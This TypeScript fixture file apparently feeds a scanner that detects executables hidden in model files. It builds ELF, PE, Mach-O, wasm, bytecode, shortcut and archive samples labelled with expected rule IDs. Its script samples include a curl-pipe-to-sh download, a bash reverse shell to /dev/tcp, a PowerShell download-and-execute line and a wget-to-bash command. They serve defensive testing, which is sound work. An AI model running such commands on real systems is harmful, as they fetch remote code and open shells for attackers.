import { Buffer } from 'node:buffer'
import { gzipSync } from 'node:zlib'
import { wordsOf } from '../compressed-bytes.ts'
import { plainGguf } from '../gguf-bytes.ts'
import { plainSafetensors, safetensorsBytes } from '../safetensors-bytes.ts'
import { evilPickle } from '../torch-bytes.ts'
import { zipBytes } from '../zip-bytes.ts'
import type { FormatSamples, Sample } from './types.ts'

/** An ELF header with one segment that covers `length` bytes. */
export function elfBytes(length: number = 128, machine: number = 62): Buffer {
  const bytes = Buffer.alloc(length)
  bytes.set(Buffer.from('\x7fELF\x02\x01\x01', 'latin1'))
  bytes.writeUInt16LE(3, 16)
  bytes.writeUInt16LE(machine, 18)
  bytes.writeUInt32LE(64, 32)
  bytes.writeUInt16LE(56, 54)
  bytes.writeUInt16LE(1, 56)
  bytes.writeUInt32LE(length, 64 + 32)
  return bytes
}

/** An MZ header, a PE header and one section that ends the file. */
export function peBytes(isLibrary: boolean = false): Buffer {
  const bytes = Buffer.alloc(256)
  bytes.write('MZ')
  bytes.writeUInt32LE(64, 0x3c)
  bytes.write('PE\0\0', 64)
  bytes.writeUInt16LE(0x8664, 68)
  bytes.writeUInt16LE(1, 70)
  bytes.writeUInt16LE(isLibrary ? 0x2022 : 0x22, 64 + 22)
  bytes.writeUInt32LE(128, 88 + 16)
  bytes.writeUInt32LE(128, 88 + 20)
  return bytes
}

function machOBytes(): Buffer {
  const bytes = Buffer.alloc(256)
  for (const [i, word] of [0xfeedfacf, 0x100000c, 0, 6, 1, 72, 0, 0, 0x19, 72].entries())
    bytes.writeUInt32LE(word, i * 4)
  bytes.writeUInt32LE(256, 32 + 48)
  return bytes
}

/** A module that imports one function. */
function wasmBytes(): Buffer {
  const imports = Buffer.concat([
    Buffer.of(1, 3),
    Buffer.from('env'),
    Buffer.of(6),
    Buffer.from('system'),
    Buffer.of(0, 0),
  ])
  const types = Buffer.of(1, 0x60, 0, 0)
  return Buffer.concat([
    Buffer.from('\0asm\x01\0\0\0', 'latin1'),
    Buffer.of(1, types.length),
    types,
    Buffer.of(2, imports.length),
    imports,
  ])
}

const javaBytes = (): Buffer => Buffer.concat([Buffer.of(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61, 0, 2), Buffer.alloc(40)])

function bytecode(magic: number, headerSize: number): Buffer {
  const bytes = Buffer.alloc(headerSize + 40)
  bytes.writeUInt16LE(magic)
  bytes.set([0x0d, 0x0a], 2)
  bytes[headerSize] = 0xe3
  return bytes
}

/** A shortcut with a path and arguments. */
function linkBytes(): Buffer {
  const head = Buffer.alloc(76)
  head.writeUInt32LE(76)
  head.set(Buffer.from('0114020000000000c000000000000046', 'hex'), 4)
  head.writeUInt32LE(8 | 32 | 0x80, 20)
  const text = (value: string): Buffer => Buffer.concat([Buffer.of(value.length, 0), Buffer.from(value, 'utf16le')])
  return Buffer.concat([head, text('C:\\Windows\\System32\\cmd.exe'), text('/c calc.exe')])
}

const ape = Buffer.concat([Buffer.from("MZqFpD='\n#!/bin/sh\n", 'latin1'), Buffer.alloc(64)])
const shell = (lines: string): Buffer => Buffer.from(`#!/bin/sh\n${lines}\n`)

/** What only looks like code: weights and texts in which the magic occurs. Nothing benign begins with one. */
function lookalikes(magic: Uint8Array): Sample[] {
  const weights = safetensorsBytes({ w: { dtype: 'U8', shape: [4096], data_offsets: [0, 4096] } }, 4096)
  weights.set(magic, weights.length - 2048)
  const hex = Buffer.from(magic).toString('hex')
  return [
    { name: 'weights in which the magic occurs', path: 'm.safetensors', bytes: weights },
    {
      name: 'text about the magic',
      path: 'README.md',
      bytes: Buffer.from(`Files that begin with ${hex} are refused.\n`),
    },
    { name: 'packed text about the magic', path: 'n.txt.gz', bytes: gzipSync(`${hex} ${wordsOf(500).toString()}`) },
  ]
}

type Code = {
  kind: string
  path: string
  bytes: Buffer
  rules: string[]
  more?: Sample[]
  benign?: Sample[]
  mutations?: Sample[]
}

const codes: readonly Code[] = [
  {
    kind: 'elf',
    path: 'lib.so',
    bytes: elfBytes(),
    rules: ['EXE-FILE-001'],
    mutations: [
      {
        name: 'with a pickle behind its end',
        bytes: Buffer.concat([elfBytes(), evilPickle()]),
        rules: ['EXE-FILE-001', 'POLY-RUN-001'],
      },
    ],
  },
  {
    kind: 'pe',
    path: 'a.exe',
    bytes: peBytes(),
    rules: ['EXE-FILE-001'],
    more: [
      { name: 'library', path: 'torch.dll', bytes: peBytes(true), rules: ['EXE-FILE-001'] },
      { name: 'program for several systems', path: 'run', bytes: ape, rules: ['EXE-FILE-002'] },
      {
        name: 'llamafile with an archive',
        path: 'm.llamafile',
        bytes: Buffer.concat([ape, zipBytes([{ name: 'model.gguf', data: plainGguf('{{ 1 }}') }])]),
        rules: ['EXE-LLAMAFILE-001'],
      },
      {
        name: 'llamafile with plain weights',
        path: 'm.llamafile',
        bytes: Buffer.concat([ape, plainGguf('{{ 1 }}')]),
        rules: ['EXE-LLAMAFILE-001'],
      },
    ],
    mutations: [
      {
        name: 'self-extracting archive',
        bytes: Buffer.concat([peBytes(), zipBytes([{ name: 'data.pkl', data: evilPickle() }])]),
        rules: ['EXE-FILE-001', 'POLY-RUN-001'],
      },
    ],
  },
  { kind: 'mach-o', path: 'lib.dylib', bytes: machOBytes(), rules: ['EXE-FILE-001'] },
  { kind: 'wasm', path: 'm.wasm', bytes: wasmBytes(), rules: ['EXE-FILE-001'] },
  { kind: 'java-class', path: 'M.class', bytes: javaBytes(), rules: ['EXE-FILE-001'] },
  {
    kind: 'python-bytecode',
    path: '__pycache__/m.cpython-312.pyc',
    bytes: bytecode(3531, 16),
    rules: ['EXE-FILE-001'],
    more: [
      { name: 'of Python 3.6', path: 'm.pyc', bytes: bytecode(3379, 12), rules: ['EXE-FILE-001'] },
      { name: 'of Python 2', path: 'm.pyc', bytes: bytecode(62_211, 8), rules: ['EXE-FILE-001'] },
    ],
  },
  { kind: 'windows-link', path: 'README.lnk', bytes: linkBytes(), rules: ['EXE-FILE-001'] },
  // No code, but just as closed to inspection.
  {
    kind: 'rar',
    path: 'm.rar',
    bytes: Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'), Buffer.alloc(64)]),
    rules: ['ARC-OPAQUE-002'],
  },
  {
    kind: 'script',
    path: 'setup.sh',
    bytes: shell('curl -s http://203.0.113.7/x | sh'),
    rules: ['EXE-SCRIPT-001', 'EXE-SCRIPT-002', 'IOC-ADDRESS-001'],
    more: [
      {
        name: 'network shell',
        path: 'go',
        bytes: shell('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
        rules: ['EXE-SCRIPT-003'],
      },
      {
        name: 'PowerShell',
        path: 'install.ps1',
        bytes: Buffer.from('iex (New-Object Net.WebClient).DownloadString("https://x.example/a")\n'),
        rules: ['EXE-SCRIPT-002'],
      },
      {
        name: 'batch file by content',
        path: 'x',
        bytes: Buffer.from('@echo off\r\nstart calc.exe\r\n'),
        rules: ['EXE-SCRIPT-001'],
      },
      {
        name: 'over several lines',
        path: 'a.sh',
        bytes: shell('wget -q \\\n  https://x.example/a \\\n  -O - | bash'),
        rules: ['EXE-SCRIPT-002'],
      },
    ],
  },
]

function samplesOf({ kind, path, bytes, rules, more = [], benign = [], mutations = [] }: Code): FormatSamples {
  return {
    kind,
    malicious: [
      { name: 'by its name', path, bytes, rules },
      { name: 'without a name', bytes, rules },
      { name: 'in a ZIP', path: 'm.zip', bytes: zipBytes([{ name: path, data: bytes }]), rules },
      ...more,
    ],
    benign: [...lookalikes(bytes.subarray(0, 8)), ...benign],
    truncated: { name: 'cut', path, bytes: bytes.subarray(0, Math.max(20, bytes.length - 30)) },
    mutations: [
      { name: 'named as weights', path: 'model.safetensors', bytes, rules: [...rules, 'MISMATCH-RUN-001'] },
      { name: 'packed', path: 'm.gz', bytes: gzipSync(bytes), rules },
      {
        name: 'behind weights',
        path: 'model.safetensors',
        bytes: Buffer.concat([plainSafetensors(), bytes]),
        rules: ['POLY-RUN-001'],
      },
      ...mutations,
    ],
  }
}

export const executableSamples: readonly FormatSamples[] = codes.map(samplesOf)
